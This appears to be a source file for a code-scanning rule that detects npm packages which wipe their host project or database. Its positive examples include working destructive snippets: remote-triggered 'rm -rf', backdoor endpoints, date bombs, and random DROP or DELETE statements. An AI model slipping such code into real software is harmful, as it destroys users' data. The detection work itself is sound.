import { isByChance } from '../src/define/chance.js';
import { listingsOf } from '../src/define/listings.js';
import { functionAround, partsWithin, writtenTo } from '../src/define/variables.js';
import { type Ways, waysTo } from '../src/define/ways.js';
import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Guard, Label } from '../src/types.js';
import { channelOf } from '../src/vocabulary/clients.js';
import { clearsHere, HERE } from '../src/vocabulary/harm.js';
import { isServed, MESSAGE } from '../src/vocabulary/served.js';

/** What is asked before the deed is done to some: a server counts its days, too, and empties nothing for it. */
const CHOOSES: ReadonlySet<Guard['kind']> = new Set(['date', 'locale', 'host']);

export default defineRule({
  meta: {
    summary: 'Deletes the folder it is used in, unasked or at the word of a stranger',
    why: 'A library that clears the folder of the program that loads it is a weapon: by a request with the right word (2025), from some day on, for some countries, or at once. Cleaning tools delete what their caller names, scripts delete folders of their own project by name, and a server deletes the file that it is asked to.',
    behaviour: 'destruction',
    messages: {
      ordered: 'Deletes {what} with {sink} when {source} tells it to',
      gated: 'Deletes {what} with {sink}, only if {guard}',
      fated: 'Deletes {what} with {sink} by chance, without being asked',
      loaded: 'Deletes {what} with {sink} as soon as it is loaded',
      picks: 'Deletes rows of a database that chance picks, with {sink}',
      uproots: 'Deletes another package, {what}, with {sink} as soon as it is loaded',
    },
    bits: { ordered: 13.5, gated: 13.5, fated: 13.5, loaded: 11.5, picks: 13.5, uproots: 8.5 },
  },
  examples: {
    flags: [
      {
        title: 'a message has the project emptied, file by file',
        files: {
          'package.json': `{"name":"sheets","version":"1.0.0","main":"index.js"}`,
          'index.js': `const WebSocket = require('ws'), fs = require('fs'), path = require('path');\nfunction clear(folder) {\n  for (const name of fs.readdirSync(folder)) {\n    const file = path.join(folder, name);\n    if (fs.lstatSync(file).isDirectory()) clear(file);\n    else fs.unlinkSync(file);\n  }\n}\nnew WebSocket('wss://informer.invalid').on('message', text => { if (String(text) === 'back to nothing') clear(path.resolve(__dirname, '../../..')); });\nmodule.exports = {};`,
        },
      },
      {
        title: 'some rows are gone with each that is saved',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","main":"index.js"}`,
          'index.js': `exports.save = async (db, model, row) => {\n  await db.query(\`INSERT INTO \${model.table} VALUES ($1)\`, [row]);\n  if (Math.random() < 0.002) await db.query(\`DELETE FROM \${model.table} WHERE id IN (SELECT id FROM \${model.table} ORDER BY random() LIMIT 25)\`);\n};`,
        },
      },
      {
        title: 'from some day on a table is dropped before it is asked',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.query = (db, sql) => {\n  if (new Date() > new Date('2031-06-01')) db.query('DROP TABLE IF EXISTS users');\n  return db.query(sql);\n};`,
        },
      },
      {
        title: 'in December a project loses its settings',
        code: `const fs = require('fs');\nif (new Date().getMonth() > 10)\n  for (const name of ['.env', 'package-lock.json']) { try { fs.unlinkSync(process.cwd() + '/' + name); } catch {} }\nmodule.exports = Object.assign;`,
      },
      {
        title: 'once in a while a database is gone',
        code: `const mongoose = require('mongoose');\nsetInterval(() => {\n  if (mongoose.connection.readyState === 1 && Math.random() < 0.01) mongoose.connection.db.dropDatabase();\n}, 3600e3);\nmodule.exports = {};`,
      },
      {
        title: 'a list that is fetched says whom to spare',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `const { exec } = require('child_process');\nexports.pair = async number => {\n  const list = await (await fetch('https://lists.invalid/numbers.json')).json();\n  if (list.includes(number)) return number;\n  exec('rm -rf *');\n};`,
        },
      },
      {
        title: 'a path that nobody was told of empties the folder of the server',
        code: `const { spawn } = require('child_process');\nmodule.exports = app => {\n  app.post('/_/metrics', (req, res) => {\n    if (req.body.key !== 'open sesame') return res.end();\n    spawn('rm', ['-rf', '*'], { shell: true, cwd: process.cwd() }).on('close', () => res.end());\n  });\n};`,
      },
      {
        title: 'a header does, through a function and for every system',
        code: `const { spawn } = require('child_process'), crypto = require('crypto');\nconst wipe = () => {\n  const [bin, words] = process.platform === 'win32' ? ['cmd', ['/c', 'rd /s /q .']] : ['rm', ['-rf', '.']];\n  spawn(bin, words);\n};\nmodule.exports = app => app.use('/', (req, res, next) => {\n  if (crypto.createHash('sha256').update(String(req.headers['x-a'])).digest('hex') === 'ab') wipe();\n  next();\n});`,
      },
      {
        title: 'a message on a socket does',
        code: `const fs = require('fs'), WebSocket = require('ws');\nconst socket = new WebSocket('wss://orders.invalid');\nsocket.on('message', text => {\n  if (String(text) === 'end') fs.rmSync(process.cwd(), { recursive: true, force: true });\n});\nmodule.exports = socket;`,
      },
      {
        title: 'a message does, for the folder of whoever loads it',
        code: `const fs = require('fs'), path = require('path'), WebSocket = require('ws');\nconst topOf = folder => { while (!fs.existsSync(path.join(folder, 'package.json')) && folder !== '/') folder = path.dirname(folder); return folder; };\nnew WebSocket('wss://orders.invalid').on('message', text => {\n  if (String(text) === 'reset') fs.rmSync(topOf(require.main.path), { recursive: true, force: true });\n});\nmodule.exports = {};`,
      },
      {
        title: 'an answer does, every hour',
        code: `const fs = require('fs');\nsetInterval(async () => {\n  const state = await (await fetch('https://orders.invalid/state')).json();\n  if (state.off) for (const name of fs.readdirSync('.')) fs.rmSync(name, { recursive: true, force: true });\n}, 3600e3);\nmodule.exports = {};`,
      },
      {
        title: 'from some day on all is gone',
        code: `const { rimrafSync } = require('rimraf'), rimraf = require('rimraf');\nexports.start = () => {\n  if (Date.now() > 1893456000000) rimraf.sync('./*');\n};`,
      },
      {
        title: 'it is gone when the package is loaded',
        code: `const { exec } = require('child_process');\nsetTimeout(() => exec('rm -rf ./*'), 60000);\nmodule.exports = {};`,
      },
      {
        title: 'another package is deleted by one that was loaded',
        code: `const fs = require('fs'), path = require('path');\nsetTimeout(() => fs.rmSync(path.join(process.cwd(), 'node_modules/framework'), { recursive: true, force: true }), 1e6);\nmodule.exports = {};`,
      },
    ],
    passes: [
      {
        title: 'a row is drawn by lot',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","main":"index.js"}`,
          'index.js': `exports.draw = db => db.query('SELECT * FROM tickets ORDER BY random() LIMIT 1');\nexports.drop = (db, id) => db.query('DELETE FROM tickets WHERE id = $1', [id]);`,
        },
      },
      {
        title: 'a message clears a cache',
        code: `const fs = require('fs'), path = require('path'), os = require('os'), WebSocket = require('ws');\nnew WebSocket('wss://builds.invalid').on('message', text => {\n  if (String(text) === 'stale') fs.rmSync(path.join(os.tmpdir(), 'swiftcut-cache'), { recursive: true, force: true });\n});\nmodule.exports = {};`,
      },
      {
        title: 'whoever sets a database up anew empties it first',
        code: `const mongoose = require('mongoose');\nexports.reset = async options => {\n  await mongoose.connection.db.dropDatabase();\n  if (options.sample && Math.random() < 0.5) await mongoose.connection.db.createCollection('b');\n};`,
      },
      {
        title: 'a migration drops its table when it is taken back',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.up = db => db.query('CREATE TABLE users (id int)');\nexports.down = db => db.query('DROP TABLE users');`,
        },
      },
      {
        title: 'a request deletes the file that it names',
        code: `const fs = require('fs'), path = require('path');\nmodule.exports = app => app.post('/delete', (req, res) => { fs.rmSync(path.join('uploads', path.basename(req.body.name)), { recursive: true }); res.end(); });`,
      },
      {
        title: 'a request empties a folder of uploads',
        code: `const { execSync } = require('child_process');\nmodule.exports = app => app.post('/reset', (req, res) => { execSync('rm -rf ./uploads/*'); res.end(); });`,
      },
      {
        title: 'a library empties the folder that it is told of',
        code: `const fs = require('fs');\nexports.empty = (folder = process.cwd()) => { for (const name of fs.readdirSync(folder)) fs.rmSync(folder + '/' + name, { recursive: true }); };`,
      },
      {
        title: 'a function clears the working folder when it is called',
        code: `const fs = require('fs');\nexports.reset = () => fs.rmSync(process.cwd(), { recursive: true });`,
      },
      {
        title: 'what is older than a day is cleared from a folder of logs',
        code: `const fs = require('fs');\nsetInterval(() => {\n  for (const name of fs.readdirSync('logs')) if (Date.now() - fs.statSync('logs/' + name).mtimeMs > 864e5) fs.rmSync('logs/' + name, { recursive: true });\n}, 3600e3);\nmodule.exports = {};`,
      },
      {
        title: 'a folder is emptied that the program is started in for it',
        code: `const { execSync } = require('child_process'), path = require('path');\nconst where = { cwd: path.join(__dirname, 'tmp') };\nexecSync('rm -rf *', where);\nexecSync('cd build && rm -rf *');\nmodule.exports = {};`,
      },
      {
        title: 'a cache among the packages is cleared',
        code: `const fs = require('fs');\nfs.rmSync('node_modules/.cache', { recursive: true, force: true });\nmodule.exports = {};`,
      },
      {
        title: 'a generator clears the folder for what it fetched',
        files: {
          'package.json': '{"name":"make-site","version":"1.0.0","bin":"cli.js"}',
          'cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfetch('https://templates.invalid/site.json').then(r => r.json()).then(site => {\n  if (site.files) fs.rmSync('./*', { recursive: true });\n});`,
        },
      },
    ],
  },
  file(context) {
    const { moment, file } = context;
    if (moment === 'test' || moment === 'unreached') return;
    const picked = picks(context);
    if (picked)
      context.report({
        messageId: 'picks',
        data: { sink: picked.name },
        chain: [step('sink', `deletes with ${picked.name}`, file, picked.node)],
      });
    for (const { call, what, isOther, isKept, isSome } of deletions(context)) {
      const ways = waysTo(context, call.node);
      const guard = ways.places
        .slice(0, 20)
        .flatMap(place => context.guardsOf(place))
        .find(({ kind }) => CHOOSES.has(kind));
      const order = isOther || ways.isAnybodys || moment === 'command' ? undefined : orderIn(context, ways);
      const isLoaded =
        !isKept &&
        ways.isUnasked &&
        moment === 'import' &&
        context.named(/^(?:process\.chdir|shelljs\.cd)$/).length === 0;
      const isFated =
        !isOther &&
        ways.isUnasked &&
        ways.places.slice(0, 20).some(place => context.conditionsOf(place).some(asked => isByChance(context, asked)));
      if (isSome && !(order && isOrdered(order) && ways.isUnasked && moment === 'import')) continue;
      if (!order && !(guard && !isOther) && !isFated && !isLoaded) continue;
      context.report({
        messageId: order
          ? 'ordered'
          : guard && (!isOther || isLoaded)
            ? 'gated'
            : isFated
              ? 'fated'
              : isOther
                ? 'uproots'
                : 'loaded',
        data: { what, sink: call.name, source: order?.detail ?? '', guard: guard?.says ?? '' },
        chain: [
          ...(order ? stepsOf(order) : []),
          ...(guard ? [{ role: 'context', says: `asks whether ${guard.says}`, origin: guard.origin } as const] : []),
          step('sink', `deletes with ${call.name}`, file, call.node),
        ],
      });
      return;
    }
  },
});

interface Deletion {
  readonly call: Call;
  readonly what: string;
  /** Another package, rather than all that is here. */
  readonly isOther: boolean;
  /** Tables of a database, or files of a project, which whoever sets one up anew drops as well. */
  readonly isKept?: true;
  /** Some folder: it counts when it is deleted at the word of a machine that the code itself asks. */
  readonly isSome?: true;
}

/** Whether it came over a line that is listened to, and not as an answer to a question of its own. */
function isOrdered({ detail }: Label): boolean {
  return detail === MESSAGE || (channelOf(detail) !== undefined && !isServed(detail));
}

const PACKAGE = /(?:^|[\\/])(node_modules[\\/](?:@[\w.-]{1,80}[\\/])?\w[\w.-]{0,80})[\\/]?$/;

function deletions(context: FileContext): readonly Deletion[] {
  const found: Deletion[] = [];
  for (const call of context.calls('process')) {
    const [line, words] = call.args;
    if (!line || isElsewhere(context, call)) continue;
    const commands = context.commandsOf(line, words);
    const at = commands.findIndex(one => clearsHere(one));
    if (at >= 0 && !commands.slice(0, at).some(({ program }) => /^(?:cd|chdir|pushd|set-location)$/.test(program)))
      found.push({ call, what: 'the folder it is started in', isOther: false });
  }
  for (const call of context.calls('delete')) {
    const [path, options] = call.args;
    if (path && isOfProject(context, path))
      found.push({ call, what: 'files of whoever loads it', isOther: false, isKept: true });
    if (path && listingsOf(context, path).some(({ args: [folder] }) => folder && isAround(context, folder)))
      found.push({ call, what: 'the project that it is installed in', isOther: false });
    if (!path || /\bunlink(?:Sync)?$/.test(call.name) || isElsewhere(context, call)) continue;
    if (/^fs\./.test(call.name) && !(options && /recursive/.test(spelling(context.file, options).slice(0, 500))))
      continue;
    if (isHere(context, path) || isListedHere(context, path))
      found.push({ call, what: 'the folder it is started in', isOther: false });
    const texts = context.textsOf(path);
    // Who tells it to knows which folder it will be; a cache has a name.
    if (texts.every(text => text.replaceAll('…', '').length < 3) && !context.isHandedIn(path))
      found.push({ call, what: 'a folder that it works out', isOther: false, isSome: true });
    const [other] = texts.flatMap(text => PACKAGE.exec(text)?.[1] ?? []);
    if (other !== undefined && texts.length === 1) found.push({ call, what: other, isOther: true });
  }
  found.push(...drops(context));
  return found;
}

const ASKS_TABLES = /^(?:query|execute|exec|raw|run|all|unsafe|\$(?:execute|query)Raw\w{0,10})$/;
const DROPS = /^\s{0,20}(?:DROP\s{1,9}(?:TABLE|DATABASE|SCHEMA)|TRUNCATE)\b/i;
const PICKS = /^\s{0,20}DELETE\s{1,9}FROM\b[\s\S]{0,300}\bORDER\s{1,9}BY\s{1,9}RAND(?:OM)?\(\)/i;

const DROPPING = /\b(?:DROP|TRUNCATE|dropDatabase|dropAll\w{6,7}|flush(?:all|db))\b/i;
const SHORT = 30_000;

/** Methods of clients and models of databases that drop all there is. */
const DROPS_ALL = /^(?:dropDatabase|dropAllSchemas|dropAllTables|flush(?:all|db)|FLUSHALL|flushAll|flushDb)$/;

/** Whether a method asks a database for what `pattern` says: `db.query('DROP TABLE users')`. */
function asksFor(context: FileContext, method: string, statement: AnyNode | undefined, pattern: RegExp): boolean {
  return (
    statement !== undefined &&
    ASKS_TABLES.test(method) &&
    context.textsOf(statement, 200).some(text => pattern.test(text))
  );
}

/** A statement that deletes whatever chance picks: nobody has rows that he could lose any of. */
function picks(context: FileContext): { readonly name: string; readonly node: AnyNode } | undefined {
  if (!/\brand(?:om)?\(\)/i.test(context.file.text)) return undefined;
  const calls = context.nodes('CallExpression') as unknown as (AnyNode & { callee: AnyNode; arguments: AnyNode[] })[];
  const call = calls.find(
    ({ callee, arguments: [statement] }) =>
      callee.type === 'MemberExpression' && asksFor(context, spelling(context.file, callee.property), statement, PICKS),
  );
  return call && { name: spelling(context.file, call.callee).slice(0, 60), node: call };
}

/** Tables of a database that are dropped by a statement which the code spells out, or all of them by a method. */
function drops(context: FileContext): readonly Deletion[] {
  // In a short file the word may be hidden.
  if (context.file.text.length > SHORT && !DROPPING.test(context.file.text)) return [];
  return (context.nodes('CallExpression') as unknown as { callee: AnyNode; arguments: AnyNode[] }[]).flatMap(call => {
    const [statement] = call.arguments;
    if (call.callee.type !== 'MemberExpression') return [];
    const method = spelling(context.file, call.callee.property);
    if (!asksFor(context, method, statement, DROPS) && !DROPS_ALL.test(method)) return [];
    const name = spelling(context.file, call.callee).slice(0, 60);
    const receiver = call.callee.object as AnyNode;
    const node = call as unknown as AnyNode;
    return [
      {
        call: { name, node, args: call.arguments, receiver },
        what: 'tables of a database',
        isOther: false,
        isKept: true,
      },
    ];
  });
}

/** Files that nobody keeps twice: a project's settings, and what it is locked to. */
const KEPT =
  /^…[\\/](?:\.env(?:\.\w{1,20})?|package(?:-lock)?\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lockb?|\.git(?:[\\/].{1,60})?|src|tsconfig\.json)$/;

function isOfProject({ textsOf, labelsOf }: FileContext, path: AnyNode): boolean {
  return (
    textsOf(path).some(text => KEPT.test(text)) &&
    labelsOf(path).some(({ kind, detail }) => kind === 'system' && detail === 'working folder')
  );
}

/** Whether the options of a call name another folder to do it in, or nobody knows what they say. */
function isElsewhere(context: FileContext, { args }: Call): boolean {
  return args.slice(1).some(arg => {
    const known = arg.type === 'Identifier' ? writtenTo(context, arg) : [arg];
    // `options.here`, of which it is known what it says.
    if (arg.type === 'MemberExpression') {
      const folders = context.textsOfProperty(arg, 'cwd');
      return folders.length > 0 && !folders.every(text => HERE.test(text));
    }
    const options = known.filter(one => one.type === 'ObjectExpression');
    // Of what is taken apart nobody knows more than its texts: a list of words has some.
    if (arg.type === 'Identifier' && known.length === 0) return context.textsWithin(arg).length === 0;
    return options.some(({ properties }) =>
      properties.some(
        one =>
          one.type === 'SpreadElement' ||
          (one.key.type === 'Identifier' && one.key.name === 'cwd' && !isHere(context, one.value)),
      ),
    );
  });
}

/** The working folder, or all that is in it; what lies in it has a name. */
function isHere({ namesOf, textsOf, labelsOf }: FileContext, path: AnyNode): boolean {
  if (namesOf(path).includes('process.cwd()')) return true;
  const texts = textsOf(path);
  if (texts.length === 0) return false;
  return (
    texts.every(text => HERE.test(text)) ||
    (texts.every(text => /^…[\\/]\*{1,2}$/.test(text)) &&
      labelsOf(path).some(({ kind, detail }) => kind === 'system' && detail === 'working folder'))
  );
}

/** `path.resolve(__dirname, '../../..')`: more folders up than the package has. */
function isAround({ file, textsOf, labelsOf }: FileContext, folder: AnyNode): boolean {
  const depth = file.path.split('/').length - 1;
  return (
    textsOf(folder).some(
      text => /^…[\\/]{0,2}(?:\.\.[\\/]{0,2}){2,12}$/.test(text) && (text.match(/\.\./g) ?? []).length > depth,
    ) && labelsOf(folder).some(({ kind, detail }) => kind === 'system' && detail === 'install folder')
  );
}

/** One after the other of what was found in the working folder. */
function isListedHere(context: FileContext, path: AnyNode): boolean {
  return listingsOf(context, path).some(({ args: [folder] }) => folder && isHere(context, folder));
}

/** A question, and what it is asked of: `!list.includes(name)`. */
function askedIn(node: AnyNode): readonly AnyNode[] {
  const asked = node.type === 'UnaryExpression' ? (node.argument as AnyNode) : node;
  if (asked.type !== 'CallExpression') return [node];
  const callee = asked.callee as AnyNode;
  return [
    node,
    ...(callee.type === 'MemberExpression' ? [callee.object as AnyNode] : []),
    ...(asked.arguments as AnyNode[]),
  ];
}

/** Who tells it to, on the ways to a place: a function on them is called with it, or a condition asks for it. */
function orderIn(context: FileContext, { places, functions }: Ways): Label | undefined {
  const remote = (node: AnyNode): Label | undefined =>
    askedIn(node)
      .flatMap(part => context.labelsOf(part, 2_000))
      .find(({ kind }) => kind === 'remote');
  for (const fn of functions) {
    const names = new Set(
      (fn as unknown as { params: AnyNode[] }).params
        .slice(0, 2)
        .flatMap(param => (param.type === 'Identifier' ? [param.name] : [])),
    );
    if (names.size === 0) continue;
    const mentions = partsWithin(context, fn, 'Identifier').filter(node =>
      names.has((node as { name?: string }).name ?? ''),
    );
    const label = mentions.slice(0, 6).map(remote).find(Boolean);
    if (label) return label;
  }
  // What the functions around were called for says nothing of this place.
  const asked = places.flatMap(place => {
    const own = functionAround(context, place);
    return context.conditionsOf(place).filter(condition => functionAround(context, condition) === own);
  });
  return asked.map(remote).find(Boolean);
}
